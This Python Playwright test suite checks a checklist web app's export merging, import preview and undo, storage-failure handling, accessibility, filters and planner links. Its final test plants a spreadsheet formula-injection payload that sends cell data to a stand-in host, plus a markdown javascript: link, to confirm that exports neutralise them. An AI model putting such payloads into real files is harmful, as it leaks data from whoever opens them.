"""A team on the checklist pages: two people exchange exports both ways and nothing is lost; the page's
import gives the corpus the CLI's verdicts; storage failures are shown; keyboard-only use; filters;
the plan link from the planner; safe exports."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from playwright.sync_api import expect

from browser import axe_violations
from conftest import REAL
from conftest import cli as run_cli
from fieldguide import graph, load, plan, statefile
from fieldguide.schema import Profile
from state_corpus import corpus

CAT = load.load(REAL)
G = graph.build(CAT)
DD = [i.id for i in CAT.challenges["data-discovery"].checklist]
STORE = "fieldguide-checklist"


def open_checklist(page, site, stage: str = "data-management") -> None:
    page.goto(f"{site.url}checklists/{stage}/", wait_until="networkidle")


def download(page, button: str) -> str:
    with page.expect_download() as info:
        page.locator(button).click()
    return Path(info.value.path()).read_text(encoding="utf-8")


def import_text(page, name: str, text: str) -> None:
    page.locator("#fg-import").set_input_files(files=[{"name": name, "mimeType": "application/json",
                                                        "buffer": text.encode()}])


def stored(page) -> dict:
    return json.loads(page.evaluate(f"localStorage.getItem('{STORE}') || '{{\"items\": {{}}}}'"))["items"]


@pytest.fixture
def second_page(browser):
    """Another person: a separate browser context (its own local storage)."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    tab = context.new_page()
    errors: list[str] = []
    tab.on("pageerror", lambda exc: errors.append(str(exc)))
    tab.errors = errors
    yield tab
    context.close()


# ---------------------------------------------------------------- two people, one checklist


def test_two_people_exchange_exports_both_ways_and_nothing_is_lost(page, second_page, site, tmp_path: Path) -> None:
    ana, raj = page, second_page
    ana.clock.set_fixed_time("2026-11-29T10:00:00Z")
    raj.clock.set_fixed_time("2026-11-29T10:00:00Z")
    for who, name in ((ana, "Ana"), (raj, "Raj")):
        open_checklist(who, site)
        who.locator("#fg-name").fill(name)
    # different items
    ana.locator(f"#done-{DD[0]}").check()
    ana.locator(f"#owner-{DD[0]}").fill("Ana")
    raj.select_option(f"#status-{DD[1]}", "na")
    raj.locator(f"#reason-{DD[1]}").fill("One source system")
    # the same item, at the same second: a conflict
    ana.select_option(f"#status-{DD[2]}", "in-progress")
    raj.locator(f"#done-{DD[2]}").check()
    # the same item, Raj later: his change wins
    ana.locator(f"#owner-{DD[3]}").fill("Ana")
    raj.clock.set_fixed_time("2026-11-29T11:00:00Z")
    raj.locator(f"#owner-{DD[3]}").fill("Raj")

    from_ana = download(ana, "[data-fg-export=json]")
    from_raj = download(raj, "[data-fg-export=json]")
    (tmp_path / "ana.json").write_text(from_ana, encoding="utf-8")
    (tmp_path / "raj.json").write_text(from_raj, encoding="utf-8")

    import_text(ana, "raj.json", from_raj)
    preview = ana.locator(".fg-preview")
    expect(preview).to_contain_text("1 new, 1 changed, 1 conflict(s)")
    expect(preview).to_contain_text(f"{DD[2]}:")
    ana.locator("[data-fg-import-apply]").click()
    expect(ana.locator(".fg-message")).to_contain_text(f"1 conflict(s) kept your version: {DD[2]}")
    import_text(raj, "ana.json", from_ana)
    expect(raj.locator(".fg-preview")).to_contain_text("1 conflict(s)")
    raj.locator("[data-fg-import-apply]").click()

    for who in (ana, raj):
        who.reload(wait_until="networkidle")
        expect(who.locator(f"#done-{DD[0]}")).to_be_checked()
        expect(who.locator(f"#owner-{DD[0]}")).to_have_value("Ana")
        expect(who.locator(f"#status-{DD[1]}")).to_have_value("na")
        expect(who.locator(f"#reason-{DD[1]}")).to_have_value("One source system")
        expect(who.locator(f"#owner-{DD[3]}")).to_have_value("Raj")
    expect(ana.locator(f"#status-{DD[2]}")).to_have_value("in-progress")  # each keeps their own on a conflict
    expect(raj.locator(f"#status-{DD[2]}")).to_have_value("done")

    # The same files through the CLI: the same result as Ana's page, the conflict listed by id.
    result = run_cli("checklist", "merge", tmp_path / "ana.json", tmp_path / "raj.json")
    assert f"conflict: {DD[2]}:" in result.stderr
    cli = {i["id"]: i for i in json.loads(result.stdout)["items"]}
    page_items = {i["id"]: i for i in json.loads(download(ana, "[data-fg-export=json]"))["items"]}
    assert {k: v for k, v in cli.items() if v["status"] != "open" or v.get("owner")} == \
        {k: v for k, v in page_items.items() if v["status"] != "open" or v.get("owner")}
    assert ana.watch.console_errors == [] and raj.errors == []


def test_cancel_changes_nothing_and_undo_restores_the_state_before_the_import(page, site) -> None:
    open_checklist(page, site)
    page.locator(f"#done-{DD[0]}").check()
    before = page.evaluate(f"localStorage.getItem('{STORE}')")
    incoming = {"format": "fieldguide-checklist", "version": 2, "items": [
        {"id": DD[1], "status": "accepted-risk", "reason": "Owners are tracked elsewhere",
         "updated": "2026-11-29T10:00:00Z"}]}
    import_text(page, "team.json", json.dumps(incoming))
    expect(page.locator(".fg-preview")).to_contain_text("1 new, 0 changed, 0 conflict(s)")
    expect(page.locator(".fg-preview")).to_be_focused()
    page.locator("[data-fg-import-cancel]").click()
    expect(page.locator(".fg-message")).to_contain_text("Import cancelled. Nothing was changed.")
    assert page.evaluate(f"localStorage.getItem('{STORE}')") == before

    import_text(page, "team.json", json.dumps(incoming))
    page.locator("[data-fg-import-apply]").click()
    expect(page.locator(f"#status-{DD[1]}")).to_have_value("accepted-risk")
    page.reload(wait_until="networkidle")
    page.locator("[data-fg-undo]").click()
    expect(page.locator(".fg-message")).to_contain_text("Undone: the import of team.json")
    expect(page.locator(f"#status-{DD[1]}")).to_have_value("open")
    expect(page.locator(f"#done-{DD[0]}")).to_be_checked()
    assert page.evaluate(f"localStorage.getItem('{STORE}')") == before
    expect(page.locator("[data-fg-undo]")).to_be_hidden()


def test_the_page_gives_every_corpus_file_the_clis_verdict(page, site, tmp_path: Path) -> None:
    """The corpus of tests/states/corpus through the page's real import (file input, size check,
    UTF-8 decoding, the published schema): accepted files open the preview, the others are refused."""
    open_checklist(page, site)
    before = page.evaluate(f"localStorage.getItem('{STORE}')")
    wrong = []
    for name, expected, path in corpus(tmp_path):
        page.locator("#fg-import").set_input_files(files=[{"name": f"{name}.json", "mimeType": "application/json",
                                                            "buffer": path.read_bytes()}])
        outcome = page.locator(".fg-preview:not([hidden]), .fg-message:has-text('Not imported')")
        outcome.first.wait_for()
        verdict = "accept" if page.locator(".fg-preview").is_visible() else "refuse"
        cli = "accept" if statefile.read(path)[0] is not None else "refuse"
        if not verdict == cli == expected:
            wrong.append(f"{name}: expected {expected}, page {verdict}, CLI {cli}")
        if verdict == "accept":
            page.locator("[data-fg-import-cancel]").click()
        page.evaluate("document.querySelector('.fg-message').textContent = ''")
    assert wrong == []
    assert page.evaluate(f"localStorage.getItem('{STORE}')") == before, "no file changed anything unasked"


# ---------------------------------------------------------------- storage you can trust


FILL = """() => {
  const chunk = 'x'.repeat(1 << 20);
  let i = 0;
  for (let size = chunk.length; size >= 1; size = Math.floor(size / 2)) {
    try { for (;;) localStorage.setItem('fill-' + (i++), chunk.slice(0, size)); } catch (e) { /* next size */ }
  }
  return i;
}"""


UNFILL = "() => { for (const k of Object.keys(localStorage)) if (k.startsWith('fill-')) localStorage.removeItem(k); }"


def test_a_full_storage_is_shown_and_the_tick_visibly_not_saved(page, site) -> None:
    open_checklist(page, site)
    page.locator(f"#owner-{DD[0]}").fill("Ana")
    before = page.evaluate(f"localStorage.getItem('{STORE}')")
    page.evaluate(FILL)
    box = page.locator(f"#done-{DD[1]}")
    box.evaluate("e => e.click()")  # a tick that needs a little more room than there is
    alert = page.locator(".fg-alert[role=alert]")
    expect(alert).to_contain_text("Not saved")
    expect(alert).to_contain_text("storage for this site is full")
    expect(box).not_to_be_checked()  # what is shown is what is stored
    expect(page.locator(f'li[data-item="{DD[1]}"]')).to_have_attribute("data-unsaved", "true")
    assert page.evaluate(f"localStorage.getItem('{STORE}')") == before
    page.evaluate(UNFILL)
    box.check()
    expect(alert).to_be_empty()
    assert stored(page)[DD[1]]["status"] == "done" and stored(page)[DD[0]]["owner"] == "Ana"


def test_unreadable_stored_data_is_kept_aside_once_and_replaced_not_accumulated(page, site) -> None:
    open_checklist(page, site)
    page.evaluate(f"localStorage.setItem('{STORE}', '{{broken one')")
    page.reload(wait_until="networkidle")
    expect(page.locator(".fg-message")).to_contain_text("kept aside")
    page.locator(f"#done-{DD[0]}").check()
    page.reload(wait_until="networkidle")
    page.reload(wait_until="networkidle")
    keys = [k for k in page.evaluate("Object.keys(localStorage)") if k.startswith(STORE)]  # not the theme's
    assert sorted(keys) == [STORE, f"{STORE}.unreadable"], "one copy, not one per load"
    assert page.evaluate(f"localStorage.getItem('{STORE}.unreadable')") == "{broken one"
    expect(page.locator(f"#done-{DD[0]}")).to_be_checked()
    page.evaluate(f"localStorage.setItem('{STORE}', '[\"broken two\"]')")
    page.reload(wait_until="networkidle")
    assert page.evaluate(f"localStorage.getItem('{STORE}.unreadable')") == '["broken two"]', "the newest replaces"
    assert len([k for k in page.evaluate("Object.keys(localStorage)") if "unreadable" in k]) == 1


def test_unreadable_data_that_cannot_be_kept_aside_is_never_written_over(page, site) -> None:
    open_checklist(page, site)
    page.evaluate(f"localStorage.setItem('{STORE}', '{{broken')")
    page.evaluate(FILL)
    page.reload(wait_until="networkidle")
    expect(page.locator(".fg-alert")).to_contain_text("no room to keep a copy")
    page.locator(f"#done-{DD[0]}").evaluate("e => e.click()")
    expect(page.locator(f"#done-{DD[0]}")).not_to_be_checked()
    assert page.evaluate(f"localStorage.getItem('{STORE}')") == "{broken"


def test_a_version_1_store_is_converted_once(page, site) -> None:
    open_checklist(page, site)
    old = {"version": 1, "items": {DD[0]: {"status": "done", "reason": "", "owner": "Ana", "note": ""},
                                   DD[1]: {"status": "na", "reason": "", "owner": "", "note": ""}}}
    page.evaluate("old => localStorage.setItem('fieldguide-checklist-v1', JSON.stringify(old))", old)
    page.reload(wait_until="networkidle")
    expect(page.locator(f"#done-{DD[0]}")).to_be_checked()
    expect(page.locator(f"#reason-{DD[1]}")).to_have_value("no reason recorded (converted from a version 1 file)")
    assert page.evaluate("localStorage.getItem('fieldguide-checklist-v1')") is None
    assert stored(page)[DD[0]]["owner"] == "Ana"


# ---------------------------------------------------------------- keyboard and accessibility


def test_keyboard_only_marks_an_item_done_and_another_not_applicable(page, site) -> None:
    open_checklist(page, site)
    page.keyboard.press("Tab")  # Material's "Skip to content"
    page.keyboard.press("Tab")
    expect(page.locator(".fg-skip")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator(f"#done-{DD[0]}")).to_be_focused()
    ring = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert ring not in ("none", ""), "a visible focus ring"
    page.keyboard.press("Space")
    # to the next item's status: its checkbox, then its status
    focused = ""
    for _ in range(12):
        page.keyboard.press("Tab")
        focused = page.evaluate("document.activeElement.id")
        assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") not in ("none", ""), focused
        if focused == f"status-{DD[1]}":
            break
    assert focused == f"status-{DD[1]}"
    page.keyboard.type("n")  # "not applicable"
    page.keyboard.press("Tab")
    expect(page.locator(f"#reason-{DD[1]}")).to_be_focused()
    page.keyboard.type("One source system")
    page.keyboard.press("Tab")
    page.reload(wait_until="networkidle")
    expect(page.locator(f"#done-{DD[0]}")).to_be_checked()
    expect(page.locator(f"#status-{DD[1]}")).to_have_value("na")
    expect(page.locator(f"#reason-{DD[1]}")).to_have_value("One source system")


def test_every_status_and_the_preview_are_accessible_in_the_dark_scheme(browser, site) -> None:
    context = browser.new_context(viewport={"width": 1280, "height": 900}, color_scheme="dark")
    tab = context.new_page()
    open_checklist(tab, site)
    for item, status in zip(DD, ("in-progress", "accepted-risk"), strict=False):
        tab.select_option(f"#status-{item}", status)  # accepted risk waits for its reason: a warning shows
    tab.locator(f'li[data-item="{DD[1]}"] summary').click()  # the note and evidence fields, with a placeholder
    expect(tab.locator(f"#evidence-{DD[1]}")).to_be_visible()
    import_text(tab, "t.json", json.dumps({"format": "fieldguide-checklist", "version": 2,
                                            "items": [{"id": DD[0], "status": "done"}]}))
    expect(tab.locator(".fg-preview")).to_be_visible()
    tab.wait_for_timeout(200)
    assert axe_violations(tab) == []
    context.close()


def test_checklist_page_with_preview_filters_and_alerts_is_accessible(page, site) -> None:
    open_checklist(page, site)
    page.select_option(f"#status-{DD[1]}", "na")  # a pending status with its warning
    page.locator(f"#owner-{DD[0]}").fill("Ana")
    import_text(page, "t.json", json.dumps({"format": "fieldguide-checklist", "version": 2,
                                             "items": [{"id": DD[0], "status": "done"}]}))
    expect(page.locator(".fg-preview")).to_be_visible()
    page.wait_for_timeout(200)
    assert axe_violations(page) == []
    assert page.watch.console_errors == []


# ---------------------------------------------------------------- owners and filters


def test_filter_by_owner_and_status(page, site) -> None:
    open_checklist(page, site)
    page.locator(f"#owner-{DD[0]}").fill("Ana")
    page.locator(f"#owner-{DD[1]}").fill("Raj")
    page.locator(f"#done-{DD[1]}").check()
    page.select_option("#fg-filter-owner", "Ana")
    visible = page.locator(".fg-item:visible")
    expect(visible).to_have_count(1)
    expect(visible.first).to_have_attribute("data-item", DD[0])
    page.select_option("#fg-filter-owner", "")
    page.select_option("#fg-filter-status", "done")
    expect(visible).to_have_count(1)
    expect(page.locator(".fg-filter-count")).to_have_text(re.compile(r"Showing 1 of \d+ items\."))
    expect(page.locator('.fg-challenge[data-challenge="data-profiling"]')).to_be_hidden()
    page.select_option("#fg-filter-status", "unresolved")
    expect(page.locator(f'.fg-item[data-item="{DD[1]}"]')).to_be_hidden()
    expect(page.locator(f'.fg-item[data-item="{DD[0]}"]')).to_be_visible()


# ---------------------------------------------------------------- the plan link


def test_the_planner_opens_the_checklists_for_its_plan(page, site) -> None:
    page.goto(site.url + "planner/", wait_until="networkidle")
    page.locator("#fg-plan-name").fill("Sepsis watch")
    page.select_option("#fg-plan-industry", "healthcare")
    page.locator("#fg-trait-regulated").check()
    page.locator("#fg-stage-model-learning").uncheck()
    # (an empty description field is part of the profile in the URL since the planner gained one)
    expect(page).to_have_url(re.compile(
        r"planner/\?plan=1&name=Sepsis\+watch&(?:description=&)?industry=healthcare&trait=regulated"))
    shared = page.url
    page.locator("#fg-plan-checklists").click()
    page.wait_for_url("**/checklists/?plan=1*")
    page.wait_for_load_state("networkidle")
    profile = Profile(name="Sepsis watch", industry="healthcare", traits=["regulated"],
                      stages=[s.id for s in CAT.stages if s.id != "model-learning"])
    expected = [r.id for r in plan.rank(CAT, G, profile)]
    shown = page.locator(".fg-plan-order .fg-challenge").evaluate_all("els => els.map(e => e.dataset.challenge)")
    assert shown == expected, "challenges in the planner's ranked order"
    learning = [i.id for c in CAT.challenges.values() if CAT.stage_of(c.step).id == "model-learning"
                for i in c.checklist]
    items = stored(page)
    assert all(items[i]["status"] == "na" and items[i]["reason"] == "out of scope for Sepsis watch" for i in learning)
    assert not any(items.get(i.id) for c in CAT.challenges.values() if CAT.stage_of(c.step).id != "model-learning"
                   for i in c.checklist)
    # A shared link restores the plan, and wins over what this browser remembered.
    page.goto(site.url + "planner/?plan=1&industry=finance&stage=data-management", wait_until="networkidle")
    expect(page.locator("#fg-plan-industry")).to_have_value("finance")
    expect(page.locator("#fg-trait-regulated")).not_to_be_checked()
    page.goto(shared, wait_until="networkidle")
    expect(page.locator("#fg-plan-name")).to_have_value("Sepsis watch")
    expect(page.locator("#fg-stage-model-learning")).not_to_be_checked()
    expect(page.locator(".fg-plan-item").first).to_have_attribute("data-challenge", expected[0])
    expect(page.locator(".fg-plan-item h3 small").first).to_have_text(re.compile(r"^\(relevance [0-9.]+\)$"))


def test_unticking_every_stage_says_so_instead_of_showing_everything(page, site) -> None:
    page.goto(site.url + "planner/", wait_until="networkidle")
    for stage in CAT.stages:
        page.locator(f"#fg-stage-{stage.id}").uncheck()
    expect(page.locator(".fg-plan-item")).to_have_count(0)
    expect(page.locator(".fg-message")).to_have_text(
        "No stage is ticked: tick at least one stage in scope to see its challenges.")
    page.reload(wait_until="networkidle")
    expect(page.locator(".fg-plan-item")).to_have_count(0)


def test_plan_markdown_has_one_heading_per_section_not_per_stage_change(page, site) -> None:
    page.goto(site.url + "planner/?plan=1&name=Fraud&industry=finance&trait=regulated"
              + "".join(f"&stage={s.id}" for s in CAT.stages), wait_until="networkidle")
    expect(page.locator(".fg-plan-item").first).to_be_visible()
    text = download(page, "[data-fg-plan-export=md]")
    assert text.startswith("# Deployment plan: Fraud\n")
    assert re.findall(r"^## .*", text, re.MULTILINE) == ["## Challenges, most likely to matter first"]
    assert len(re.findall(r"^### \d+\. ", text, re.MULTILINE)) == len(CAT.challenges)


# ---------------------------------------------------------------- safe exports


HOSTILE_NOTE = '=HYPERLINK("http://x.example/?"&A1,"go")'


def test_exports_neutralise_formulas_and_inert_markdown(page, site, tmp_path: Path) -> None:
    open_checklist(page, site)
    page.locator(f"#owner-{DD[0]}").fill("@owner")
    page.locator(f'li[data-item="{DD[0]}"] summary').click()
    page.locator(f"#note-{DD[0]}").fill(HOSTILE_NOTE)
    page.locator(f"#owner-{DD[1]}").fill("[x](javascript:alert(1)) ![img](http://x.example/i.png) <b>`code`</b>")
    csv_text = download(page, "[data-fg-export=csv]")
    import csv
    import io

    cells = [c for row in csv.reader(io.StringIO(csv_text)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
    assert "'" + HOSTILE_NOTE in cells and "'@owner" in cells
    markdown = download(page, "[data-fg-export=md]")
    assert "](javascript:" not in markdown and "![" not in markdown and "<b>" not in markdown
    assert r"\[x\]\(javascript:alert\(1\)\) \!\[img\]\(http://x.example/i.png\) &lt;b>\`code\`&lt;/b>" in markdown

    # The CLI writes the same Markdown from the exported state.
    exported = tmp_path / "state.json"
    exported.write_text(download(page, "[data-fg-export=json]"), encoding="utf-8")
    result = run_cli("checklist", "--catalog", REAL, "--stage", "data-management", "--state", exported,
                     "--site-url", site.url)
    assert result.stdout == markdown
